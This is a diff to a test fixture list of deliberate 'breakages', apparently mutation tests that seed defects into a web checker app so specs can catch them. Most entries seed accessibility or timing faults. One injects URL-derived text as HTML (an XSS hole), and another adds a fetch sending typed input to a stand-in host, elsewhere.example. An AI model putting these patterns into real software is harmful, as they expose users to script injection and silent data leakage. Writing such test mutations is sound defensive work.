@@ -167,7 +167,7 @@ export const BREAKAGES: readonly Breakage[] = [
   },
   {
     what: 'a verdict is not announced',
-    file: `${CHECKER}/Checker.tsx`,
+    file: `${CHECKER}/VerdictPanel.tsx`,
     find: '<p class="visually-hidden" role="status">',
     replace: '<p class="visually-hidden">',
     spec: 'live-region',
@@ -347,8 +347,8 @@ export const BREAKAGES: readonly Breakage[] = [
   {
     what: 'the verdict comes after the frame of its key',
     file: `${CHECKER}/start-checker.ts`,
-    find: '    edit: () => {\n      readFields(false);',
-    replace: '    edit: () => {\n      setTimeout(readFields, 60, false);',
+    find: '  const edit = () => {\n    readFields(false);',
+    replace: '  const edit = () => {\n    setTimeout(readFields, 60, false);',
     spec: 'same-frame',
   },
 
@@ -357,7 +357,7 @@ export const BREAKAGES: readonly Breakage[] = [
     what: 'what the address says becomes markup',
     file: `${CHECKER}/start-checker.ts`,
     find: 'if (text !== null) version.value = text;',
-    replace: "if (text !== null) (version.value = text), root.insertAdjacentHTML('afterend', text);",
+    replace: "if (text !== null) (version.value = text), checker.insertAdjacentHTML('afterend', text);",
     spec: 'hostile-input',
   },
   {
@@ -379,9 +379,9 @@ export const BREAKAGES: readonly Breakage[] = [
   {
     what: 'what was typed is sent away',
     file: `${CHECKER}/start-checker.ts`,
-    find: '      readFields(false);\n',
+    find: '    readFields(false);\n',
     replace:
-      '      readFields(false);\n      void fetch(`https://elsewhere.example/${version.value}`).catch(() => undefined);\n',
+      '    readFields(false);\n    void fetch(`https://elsewhere.example/${version.value}`).catch(() => undefined);\n',
     spec: 'verdicts',
   },
 ];
